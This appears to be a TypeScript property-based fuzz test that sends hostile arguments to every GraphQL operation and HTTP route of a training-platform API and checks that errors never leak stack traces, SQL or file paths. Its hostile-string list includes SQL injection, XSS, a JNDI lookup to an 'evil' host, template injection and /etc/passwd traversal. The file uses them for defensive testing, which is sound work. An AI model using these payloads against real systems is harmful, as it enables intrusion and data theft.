import fc from 'fast-check';
import {
  buildSchema,
  getNamedType,
  isEnumType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
  isObjectType,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLNamedType,
} from 'graphql';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signatureHeader } from '../../api/src/handoff-import/domain/signature.js';
import { factories } from '../support/factories.js';
import { overrideAll, programShape } from '../support/program.js';
import { startTestApi, type TestApi } from '../support/test-api.js';

/*
 * Every argument of every query and mutation in the contract, filled from the schema's own types
 * with hostile values, sent with the token of a role that may call it. Whatever comes back must be a
 * contract error (or data), never an internal error, a stack trace, SQL text or a file path.
 */

const schema = buildSchema(readFileSync(new URL('../../api/schema.graphql', import.meta.url), 'utf8'));
const WEBHOOK_SECRET = 'hostile-input-test-secret-0123456789abcdef';
const RUNS = Number(process.env.HOSTILE_RUNS ?? 30);
// HOSTILE_RUNS and HOSTILE_SEED explore further by hand; the suite runs the fixed, modest default.
const SEED = Number(process.env.HOSTILE_SEED ?? 20260707);

// THROWAWAY: a session of its own, for operations that end the session they are called with.
type Role = 'ADMIN' | 'HR' | 'SUPERVISOR' | 'TRAINEE' | 'ANONYMOUS' | 'THROWAWAY';
// The roles the resolvers' @Roles allow (anyone signed in when absent); public operations also anonymously.
const ROLES: Record<string, Role[]> = {
  createCohort: ['ADMIN'],
  assignSupervisor: ['ADMIN'],
  enroll: ['ADMIN'],
  withdrawEnrollment: ['ADMIN'],
  moveEnrollment: ['ADMIN'],
  revokeCertificate: ['ADMIN'],
  overrideCompletion: ['ADMIN'],
  importUsers: ['ADMIN'],
  createUser: ['ADMIN'],
  lrsStatus: ['ADMIN'],
  users: ['ADMIN', 'HR'],
  signOff: ['SUPERVISOR', 'ADMIN'],
  recordHandoffReview: ['SUPERVISOR', 'ADMIN'],
  issueCertificate: ['SUPERVISOR', 'ADMIN'],
  startRecertification: ['SUPERVISOR', 'ADMIN'],
  startAttempt: ['TRAINEE'],
  submitAttempt: ['TRAINEE'],
  logShadowingObservation: ['TRAINEE'],
  startRolePlay: ['TRAINEE'],
  login: ['ANONYMOUS'],
  logout: ['THROWAWAY', 'ANONYMOUS'],
  analyzeOpening: ['ANONYMOUS', 'TRAINEE'],
  verifyCertificate: ['ANONYMOUS', 'HR'],
};
// Destructive operations run last so the others still meet a live enrollment.
const LAST = new Set(['withdrawEnrollment', 'moveEnrollment', 'revokeCertificate', 'startRecertification']);

const LEAKS: [string, RegExp][] = [
  ['stack trace', /\n\s+at\s|\bat [\w.<>]+ \(|"stack"|stacktrace/i],
  // Statements as PostgreSQL and TypeORM write them (upper case), so English words like "set" do not count.
  ['SQL', /\b(SELECT|INSERT|UPDATE|DELETE)\b[\s\S]{0,300}\b(FROM|INTO|SET|WHERE|VALUES)\b/],
  ['SQL', /\bviolates\b|\brelation "|\bcolumn "|duplicate key|invalid input syntax|syntax error at|QueryFailedError|\bdriverError\b/i],
  ['file path', /\/work\/|node_modules|\.ts:\d|\.js:\d|file:\/\//],
];

/** Fails with the leak's kind when `text` (with the caller's own input removed) carries one. */
function leaksIn(text: string, echoes: string[]): string | null {
  let t = text;
  for (const e of echoes) t = withoutEcho(t, e);
  for (const [kind, re] of LEAKS) if (re.test(t)) return `${kind}: ${re.exec(t)![0]}`;
  return null;
}

/** Removes the caller's own text, also where a message quotes only its start (messages are capped). */
function withoutEcho(text: string, echo: string): string {
  let t = text;
  for (const v of [echo, JSON.stringify(echo).slice(1, -1)]) {
    const head = v.slice(0, 20);
    if (head.length < 3) continue;
    for (let i = t.indexOf(head); i >= 0; i = t.indexOf(head, i)) {
      let n = 0;
      while (n < v.length && t[i + n] === v[n]) n++;
      t = t.slice(0, i) + t.slice(i + n);
    }
  }
  return t;
}

function stringsIn(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') out.push(value);
  else if (Array.isArray(value)) for (const v of value) stringsIn(v, out);
  else if (value && typeof value === 'object') for (const v of Object.values(value)) stringsIn(v, out);
  return out;
}

// ----- arbitraries from the schema -----

const HOSTILE_STRINGS = [
  '',
  ' ',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  "'; DROP TABLE users; --",
  "1' OR '1'='1",
  '" OR ""="',
  "$$; SELECT pg_sleep(5); --",
  '%',
  '_',
  '\\',
  '\u0000',
  'a\u0000b',
  '\u0007\u001b[31m\b\f\v',
  '\r\n\r\n',
  '\ud800',
  '\udfff\ud800',
  '\u202e\u200b\ufeff',
  '😀'.repeat(64),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '9'.repeat(400),
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/x}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  '2026-13-45',
  '0000-00-00T00:00:00Z',
  '275760-09-13T00:00:00.001Z',
  '-271821-04-20T00:00:00Z',
  'x'.repeat(5000),
  'y'.repeat(200_000),
  'a,b,"c\n'.repeat(2000),
];

const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 10 }).map((s) => s.repeat(2000)) },
);

const hostileInt = fc.oneof(
  fc.constantFrom(0, -1, 1, 2 ** 31 - 1, -(2 ** 31), 2 ** 31, 2 ** 53, -(2 ** 53), Number.MAX_SAFE_INTEGER, 1e308, -1e308, 0.5),
  fc.integer(),
  fc.integer({ min: -10, max: 200 }),
);
const hostileFloat = fc.oneof(
  fc.double(), // NaN and ±Infinity become null in JSON
  fc.constantFrom(0, -0, 1e308, -1e308, 5e-324, Number.MAX_VALUE, Number.MIN_SAFE_INTEGER),
);

interface Pools {
  ids: { enrollment: string[]; cohort: string[]; user: string[]; attempt: string[]; session: string[] };
  activityKeys: string[];
  emails: string[];
}

/** A plausible value for this argument or field name, so some runs get past the first checks. */
function plausible(name: string, pools: Pools): string[] {
  const n = name.toLowerCase();
  const { enrollment, cohort, user, attempt, session } = pools.ids;
  if (n === 'enrollmentid') return enrollment;
  if (n === 'cohortid') return cohort;
  if (['traineeid', 'partnerid', 'supervisorid'].includes(n)) return user;
  if (n === 'attemptid') return attempt;
  if (n === 'id') return [...session, ...attempt, ...cohort, ...enrollment];
  if (n === 'activitykey') return pools.activityKeys;
  if (n === 'programkey' || n === 'key') return ['ai-handoff', ...pools.activityKeys.slice(0, 2)];
  if (n === 'email') return pools.emails;
  if (n === 'startson') return ['2026-03-02', '2026-02-29', '2026-02-30'];
  if (n === 'timezone') return ['UTC', 'Europe/Berlin', 'America/Argentina/ComodRivadavia', 'Etc/GMT+14'];
  if (n === 'observedat' || n.endsWith('at')) return ['2026-03-02T10:00:00Z', '2026-03-02T10:00:00.123+05:30'];
  if (n === 'csv')
    return [
      'email,name,employee_id,role,cohort\n',
      `email,name,employee_id,role,cohort\n${pools.emails[0]},A,E1,TRAINEE,\n`,
      `email,name\n"unterminated,x\n`,
      `\ufeffemail,name,employee_id,role,cohort\n__proto__@x.test,__proto__,__proto__,ADMIN,__proto__\n`,
      `email,name,employee_id,role,cohort\n${'x@y.test,N,E,TRAINEE,\n'.repeat(6000)}`,
    ];
  if (n === 'password') return ['correct-horse-battery', 'short'];
  return [];
}

function valueFor(type: GraphQLInputType, name: string, pools: Pools, depth = 0): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) {
    // Now and then leave a required value out (null), which the contract must refuse cleanly.
    return fc.oneof({ weight: 30, arbitrary: nullableValue(type.ofType, name, pools, depth) }, { weight: 1, arbitrary: fc.constant(null) });
  }
  const inner = nullableValue(type, name, pools, depth);
  return fc.oneof({ weight: 6, arbitrary: inner }, { weight: 1, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: fc.constant(undefined) });
}

function nullableValue(type: GraphQLInputType, name: string, pools: Pools, depth: number): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) return valueFor(type, name, pools, depth);
  const wrongType = fc.oneof(fc.jsonValue({ maxDepth: 3 }), fc.constantFrom({ __proto__: { admin: true } }, { constructor: { prototype: 1 } }, [], {}));
  if (isListType(type)) {
    const item = valueFor(type.ofType, name, pools, depth + 1);
    return fc.oneof(
      { weight: 4, arbitrary: fc.array(item, { maxLength: 5 }) },
      // Many items, each small, so the request stays under the body limit and reaches the list limits.
      { weight: 1, arbitrary: item.filter((v) => JSON.stringify(v ?? null).length <= 60).chain((v) => fc.integer({ min: 400, max: 5_000 }).map((n) => Array.from({ length: n }, () => v))) },
      { weight: 1, arbitrary: item }, // a single value where a list is expected (GraphQL coerces it)
    );
  }
  if (isInputObjectType(type)) {
    const fields = Object.values(type.getFields());
    const record: Record<string, fc.Arbitrary<unknown>> = {};
    for (const f of fields) record[f.name] = valueFor(f.type, f.name, pools, depth + 1);
    const obj = fc.record(record).map((o) => Object.fromEntries(Object.entries(o).filter(([, v]) => v !== undefined)));
    return fc.oneof(
      { weight: 20, arbitrary: obj },
      { weight: 1, arbitrary: obj.map((o) => ({ ...o, __proto__: 'x', unknownField: 1 })) },
      { weight: 1, arbitrary: wrongType },
    );
  }
  if (isEnumType(type)) {
    const values = type.getValues().map((v) => v.name);
    return fc.oneof(
      { weight: 12, arbitrary: fc.constantFrom(...values) },
      { weight: 1, arbitrary: fc.constantFrom(...values.map((v) => v.toLowerCase()), 'UNKNOWN', '__proto__', '', 0, true) },
    );
  }
  const named = getNamedType(type) as GraphQLNamedType;
  const known = plausible(name, pools);
  const withPlausible = (a: fc.Arbitrary<unknown>) => (known.length ? fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...known) }, { weight: 2, arbitrary: a }) : a);
  switch (named.name) {
    case 'ID':
      return withPlausible(fc.oneof(fc.uuid(), hostileString, fc.constantFrom('00000000-0000-0000-0000-000000000000', 'FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF', '{a}', 42)));
    case 'String':
      return withPlausible(fc.oneof({ weight: 30, arbitrary: hostileString }, { weight: 1, arbitrary: wrongType }));
    case 'Int':
      return fc.oneof({ weight: 20, arbitrary: hostileInt }, { weight: 1, arbitrary: hostileString });
    case 'Float':
      return fc.oneof({ weight: 20, arbitrary: hostileFloat }, { weight: 1, arbitrary: hostileString });
    case 'Boolean':
      return fc.oneof({ weight: 20, arbitrary: fc.boolean() }, { weight: 1, arbitrary: fc.constantFrom('true', 1, 0, 'yes') });
    case 'DateTime':
      return withPlausible(fc.oneof(hostileString, fc.date({ noInvalidDate: true }).map((d) => d.toISOString()), fc.integer()));
    case 'JSON':
      return fc.oneof(fc.jsonValue(), hostileString);
    default:
      throw new Error(`No arbitrary for scalar ${named.name}: add one so every contract input is covered`);
  }
}

/** The leaf fields of the result, so the result's own resolvers run too. */
function selection(field: GraphQLField<unknown, unknown>): string {
  const type = getNamedType(field.type);
  if (isLeafType(type)) return '';
  if (!isObjectType(type)) return '{ __typename }';
  const leaves = Object.values(type.getFields())
    .filter((f) => isLeafType(getNamedType(f.type)) && f.args.length === 0)
    .map((f) => f.name);
  return `{ __typename ${leaves.join(' ')} }`;
}

function operation(kind: 'query' | 'mutation', field: GraphQLField<unknown, unknown>): string {
  const vars = field.args.map((a: GraphQLArgument) => `$${a.name}: ${a.type.toString()}`).join(', ');
  const args = field.args.map((a) => `${a.name}: $${a.name}`).join(', ');
  return `${kind} Hostile${vars ? `(${vars})` : ''} { ${field.name}${args ? `(${args})` : ''} ${selection(field)} }`;
}

const operations = (['query', 'mutation'] as const).flatMap((kind) => {
  const root = kind === 'query' ? schema.getQueryType()! : schema.getMutationType()!;
  return Object.values(root.getFields()).map((field) => ({ kind, field }));
});
operations.sort((a, b) => Number(LAST.has(a.field.name)) - Number(LAST.has(b.field.name)));

// ----- the API -----

let t: TestApi;
let tokens: Record<Role, string | undefined>;
let pools: Pools;

beforeAll(async () => {
  t = await startTestApi({ BATON_WEBHOOK_SECRET: WEBHOOK_SECRET });
  const f = factories(t);
  const [admin, hr, supervisor, trainee, partner] = [await f.admin(), await f.hr(), await f.supervisor(), await f.trainee(), await f.trainee()];
  const cohort = await f.cohort({ supervisors: [supervisor] });
  const other = await f.cohort();
  const enrollment = await f.enroll(cohort.id, trainee.id);
  await f.enroll(cohort.id, partner.id);
  const shape = await programShape(t, admin.token);
  const activities = shape.weeks.flatMap((w) => w.activities);
  const quiz = activities.find((a) => a.kind === 'QUIZ')!.key;
  const rolePlay = activities.find((a) => a.kind === 'ROLE_PLAY')!.key;
  // Week 1 done, so the week-2 role-play can start and its id joins the pools.
  const quizAttempt = await t.ok<{ startAttempt: { id: string } }>(`mutation($e: ID!, $k: String!) { startAttempt(enrollmentId: $e, activityKey: $k) { id } }`, { e: enrollment.id, k: quiz }, trainee.token);
  await overrideAll(t, admin.token, enrollment.id, shape.weeks[0].activities.map((a) => a.key));
  const session = await t.ok<{ startRolePlay: { id: string } }>(
    `mutation($e: ID!, $k: String!, $p: ID!) { startRolePlay(enrollmentId: $e, activityKey: $k, partnerId: $p) { id } }`,
    { e: enrollment.id, k: rolePlay, p: partner.id },
    trainee.token,
  );
  tokens = { ADMIN: admin.token, HR: hr.token, SUPERVISOR: supervisor.token, TRAINEE: trainee.token, ANONYMOUS: undefined, THROWAWAY: (await f.trainee()).token };
  pools = {
    ids: {
      enrollment: [enrollment.id],
      cohort: [cohort.id, other.id],
      user: [trainee.id, partner.id, supervisor.id],
      attempt: [quizAttempt.startAttempt.id],
      session: [session.startRolePlay.id],
    },
    activityKeys: activities.map((a) => a.key),
    emails: [trainee.email, admin.email, 'new-person@example.test', trainee.email.toUpperCase()],
  };
});
afterAll(async () => {
  // HOSTILE_STATS=1 shows how far the runs got: a test whose runs all stop at validation tests little.
  if (process.env.HOSTILE_STATS) for (const [op, counts] of outcomes) console.log(op, Object.fromEntries(counts));
  await t?.close();
});

interface Sent {
  status: number;
  body: string;
}

async function post(query: string, variables: Record<string, unknown>, token?: string): Promise<Sent> {
  const res = await fetch(`${t.url}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
    body: JSON.stringify({ query, variables }),
  });
  return { status: res.status, body: await res.text() };
}

const outcomes = new Map<string, Map<string, number>>();

function checkGraphQL(operation: string, sent: Sent, variables: Record<string, unknown>) {
  expect(sent.status, sent.body.slice(0, 500)).toBeLessThan(500);
  const parsed = JSON.parse(sent.body) as { data?: unknown; errors?: { message: string; extensions?: { code?: string } }[] };
  const detail = process.env.HOSTILE_STATS === 'messages' && parsed.errors?.length ? ` ${parsed.errors[0].message.slice(0, 70)}` : '';
  const outcome = parsed.errors?.length ? `${parsed.errors[0].extensions?.code}${detail}` : 'data';
  const counts = outcomes.get(operation) ?? new Map<string, number>();
  outcomes.set(operation, counts.set(outcome, (counts.get(outcome) ?? 0) + 1));
  const echoes = stringsIn(variables);
  for (const e of parsed.errors ?? []) {
    expect(e.extensions?.code, e.message).toBeDefined();
    expect(e.extensions?.code, e.message).not.toBe('INTERNAL_SERVER_ERROR');
    expect(['UNAUTHENTICATED', 'FORBIDDEN', 'BAD_USER_INPUT', 'NOT_FOUND', 'CONFLICT', 'REQUIREMENTS_UNMET', 'RATE_LIMITED']).toContain(e.extensions?.code);
    expect(leaksIn(JSON.stringify(e), echoes), JSON.stringify(e).slice(0, 500)).toBeNull();
  }
}

describe('every contract operation with hostile arguments', () => {
  it.each(operations.map((o, i) => [`${o.kind} ${o.field.name}`, o, i] as const))('%s', async (_name, { kind, field }, i) => {
    const query = operation(kind, field);
    const roles = ROLES[field.name] ?? ['ADMIN', 'HR', 'SUPERVISOR', 'TRAINEE'];
    const args: Record<string, fc.Arbitrary<unknown>> = {};
    for (const a of field.args) args[a.name] = valueFor(a.type, a.name, pools);
    const variables = fc.record(args).map((o) => Object.fromEntries(Object.entries(o).filter(([, v]) => v !== undefined)));
    await fc.assert(
      fc.asyncProperty(variables, fc.constantFrom(...roles), async (vars, role) => {
        checkGraphQL(field.name, await post(query, vars, tokens[role]), vars);
      }),
      { numRuns: field.args.length ? RUNS : 3, seed: SEED + i, endOnFailure: true },
    );
  });
});

// ----- the plain HTTP routes -----

async function http(path: string, init: RequestInit & { token?: string } = {}): Promise<Sent & { type: string }> {
  const { token, ...rest } = init;
  const ctrl = new AbortController();
  const res = await fetch(`${t.url}${path}`, {
    ...rest,
    signal: ctrl.signal,
    headers: { ...(rest.headers as Record<string, string>), ...(token ? { authorization: `Bearer ${token}` } : {}) },
  });
  const type = res.headers.get('content-type') ?? '';
  // An event stream that opened stays open: its first bytes are enough.
  const body = type.startsWith('text/event-stream') ? (ctrl.abort(), '') : await res.text();
  return { status: res.status, body, type };
}

function checkHttp(sent: Sent & { type: string }, echoes: string[]) {
  expect(sent.status, sent.body.slice(0, 500)).toBeLessThan(500);
  // 431: Node's HTTP parser refuses headers over 16 KB before the API sees the request.
  if (sent.status >= 400 && sent.status !== 431) {
    expect(sent.type, sent.body.slice(0, 300)).toMatch(/json/);
    expect(leaksIn(sent.body, echoes), sent.body.slice(0, 500)).toBeNull();
    expect(JSON.parse(sent.body).error?.code ?? JSON.parse(sent.body).message).toBeDefined();
  }
}

const pathSegment = fc.oneof(hostileString.filter((s) => s.length < 3000), fc.uuid(), fc.constantFrom('.', '..', '%2e%2e', 'BATON-0000-0000'));
const queryParams = fc.dictionary(
  fc.oneof(fc.constantFrom('cohortId', 'status', 'from', 'to', 'since', 'q', 'search', 'completedFrom', 'completedTo', 'programKey', '__proto__', 'constructor', 'mode', 'dryRun'), fc.string({ maxLength: 8 })),
  fc.oneof(hostileString.filter((s) => s.length < 3000), fc.uuid(), fc.constantFrom('2026-01-01', 'ACTIVE', 'CERTIFIED')),
  { maxKeys: 5 },
);
const qs = (params: Record<string, string>) => {
  const u = new URLSearchParams();
  for (const [k, v] of Object.entries(params)) u.append(k, v);
  // A repeated parameter arrives as an array: Express's query parser must not trip the services.
  for (const [k, v] of Object.entries(params).slice(0, 1)) u.append(k, v);
  return u.toString();
};

describe('the HTTP routes with hostile parameters and bodies', () => {
  const opts = { numRuns: RUNS, seed: SEED, endOnFailure: true };

  it('exports (completions.csv, xapi.json) with hostile query parameters', async () => {
    await fc.assert(
      fc.asyncProperty(queryParams, fc.constantFrom('completions.csv', 'xapi.json'), fc.constantFrom<Role>('HR', 'ADMIN'), async (params, file, role) => {
        checkHttp(await http(`/exports/${file}?${qs(params)}`, { token: tokens[role] }), Object.values(params));
      }),
      opts,
    );
  });

  it('cohort calendars, certificate files and role-play events with hostile ids', async () => {
    await fc.assert(
      fc.asyncProperty(
        pathSegment,
        fc.constantFrom('/cohorts/%s/schedule.ics', '/certificates/%s/credential.json', '/certificates/%s/certificate.pdf', '/role-plays/%s/events'),
        fc.constantFrom<Role>('ADMIN', 'TRAINEE', 'ANONYMOUS'),
        async (segment, route, role) => {
          checkHttp(await http(route.replace('%s', encodeURIComponent(segment.toWellFormed())), { token: tokens[role] }), [segment]);
        },
      ),
      opts,
    );
  });

  const hostileRecord = fc.record(
    {
      external_id: hostileString,
      id: hostileString,
      agent_email: fc.oneof(fc.constant('x'), hostileString),
      agentEmail: hostileString,
      enrollment_id: fc.oneof(fc.uuid(), hostileString),
      handed_off_at: fc.oneof(hostileString, fc.constant('2026-03-02T10:00:00Z')),
      first_response_at: hostileString,
      csat: fc.oneof(hostileInt, hostileString),
      resolved: fc.oneof(fc.boolean(), hostileString),
      transcript: fc.oneof(fc.array(fc.record({ role: hostileString, text: hostileString }), { maxLength: 4 }), hostileString),
      __proto__: fc.jsonValue(),
    },
    { requiredKeys: [] },
  );
  const importBody = fc.oneof(
    hostileString.map((s) => ({ type: 'text/csv', body: s })),
    fc.array(hostileRecord, { maxLength: 4 }).map((rows) => ({ type: 'application/json', body: JSON.stringify(rows) })),
    fc.array(hostileRecord, { maxLength: 4 }).map((rows) => ({ type: 'application/x-ndjson', body: rows.map((r) => JSON.stringify(r)).join('\n') })),
    fc.jsonValue().map((v) => ({ type: 'application/json', body: JSON.stringify(v) })),
    hostileString.map((s) => ({ type: 'application/json', body: s })),
    fc.constantFrom('text/html', 'text/csv; charset=latin1', '', 'application/json; charset="utf-16"', '*/*').map((type) => ({ type, body: 'a,b\n1,2' })),
  );

  it('the handoff import with hostile parameters and files', async () => {
    await fc.assert(
      fc.asyncProperty(importBody, queryParams, fc.constantFrom<Role>('SUPERVISOR', 'ADMIN'), async ({ type, body }, params, role) => {
        const sent = await http(`/handoffs/import?${qs(params)}`, { method: 'POST', body, headers: type ? { 'content-type': type } : {}, token: tokens[role] });
        checkHttp(sent, [body, ...Object.values(params)]);
      }),
      opts,
    );
  });

  it('the webhook with hostile bodies, signed and unsigned', async () => {
    const body = fc.oneof(hostileRecord.map((r) => JSON.stringify(r)), hostileString, fc.jsonValue().map((v) => JSON.stringify(v)));
    await fc.assert(
      fc.asyncProperty(body, fc.oneof(fc.constant('sign'), hostileString), async (text, signature) => {
        const header = signature === 'sign' ? signatureHeader(WEBHOOK_SECRET, text) : signature.replace(/[^\x20-\x7e]/g, '');
        const sent = await http('/webhooks/handoffs', { method: 'POST', body: text, headers: { 'content-type': 'application/json', 'x-baton-signature': header } });
        checkHttp(sent, [text]);
      }),
      opts,
    );
  });

  it('GraphQL requests that are not JSON, or not GraphQL', async () => {
    const raw = fc.oneof(
      hostileString.map((s) => ({ type: 'application/json', body: s })),
      fc.jsonValue().map((v) => ({ type: 'application/json', body: JSON.stringify(v) })),
      hostileString.map((query) => ({ type: 'application/json', body: JSON.stringify({ query }) })),
      fc.record({ query: fc.constant('{ me { id } }'), variables: fc.jsonValue(), operationName: fc.oneof(hostileString, fc.jsonValue()) }).map((b) => ({
        type: 'application/json',
        body: JSON.stringify(b),
      })),
      hostileString.map((s) => ({ type: 'text/plain', body: s })),
      hostileString.map((s) => ({ type: 'application/graphql', body: s })),
    );
    await fc.assert(
      fc.asyncProperty(raw, async ({ type, body }) => {
        // apollo-require-preflight keeps Apollo's CSRF prevention from refusing the simple content types.
        const sent = await http('/graphql', { method: 'POST', body, headers: { 'content-type': type, 'apollo-require-preflight': '1' }, token: tokens.ADMIN });
        expect(sent.status, sent.body.slice(0, 300)).toBeLessThan(500);
        expect(leaksIn(sent.body, [body]), sent.body.slice(0, 500)).toBeNull();
      }),
      opts,
    );
  });
});
